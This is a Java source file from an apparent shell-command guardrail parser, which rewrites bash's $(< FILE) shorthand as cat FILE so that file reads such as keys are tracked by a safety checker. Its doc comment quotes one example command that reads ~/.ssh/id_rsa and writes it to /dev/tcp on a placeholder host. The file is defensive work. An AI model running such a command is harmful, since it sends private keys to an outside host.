package io.clituner.guardrails.parse;

import io.clituner.guardrails.parse.Ast.Script;
import io.clituner.guardrails.parse.Ast.Simple;
import java.util.List;

/**
 * {@code $(< FILE)} is bash's shorthand for {@code $(cat FILE)}: a substitution whose only command has no words and
 * reads one file on standard input. Spelled out as {@code cat}, the file it reads (a key, a password file) is tracked
 * like any other read, so {@code echo "$(<~/.ssh/id_rsa)" > /dev/tcp/h/80} is the secret sent to the network.
 */
final class FileShorthand {
    private FileShorthand() {}

    /** The substitution's script, with a lone {@code < FILE} spelled as {@code cat FILE}. */
    public static Script expand(Script s) {
        if (s.items().size() != 1
                || s.items().get(0).pipelines().size() != 1
                || s.items().get(0).pipelines().get(0).commands().size() != 1
                || !(s.items().get(0).pipelines().get(0).commands().get(0) instanceof Simple c)
                || !c.words().isEmpty()
                || !c.assignments().isEmpty()
                || c.redirects().size() != 1
                || !c.redirects().get(0).op().equals("<")
                || c.redirects().get(0).fd() != 0) {
            return s;
        }
        Ast.Word cat = new Ast.Word(List.of(new Ast.Lit("cat", false)), c.start(), c.start());
        Simple spelled =
                new Simple(List.of(), List.of(cat, c.redirects().get(0).target()), List.of(), c.start(), c.end());
        Ast.Pipeline p = s.items().get(0).pipelines().get(0);
        Ast.Pipeline np = new Ast.Pipeline(List.of(spelled), p.negated(), p.start(), p.end());
        return new Script(List.of(new Ast.Item(List.of(np), s.items().get(0).background())), s.start(), s.end());
    }
}
